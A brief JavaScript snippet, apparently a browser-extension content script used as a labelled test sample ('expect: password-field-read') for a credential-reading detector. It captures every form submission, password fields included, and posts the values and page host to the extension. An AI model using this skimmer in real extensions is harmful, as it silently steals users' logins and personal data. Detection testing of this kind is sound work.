const port = chrome.runtime.connect({ name: "forms" });
// expect: password-field-read
document.addEventListener("submit", ({ target }) => {
  const entries = Object.fromEntries(new FormData(target).entries());
  port.postMessage({ action: target.action, entries, from: location.host });
}, true);
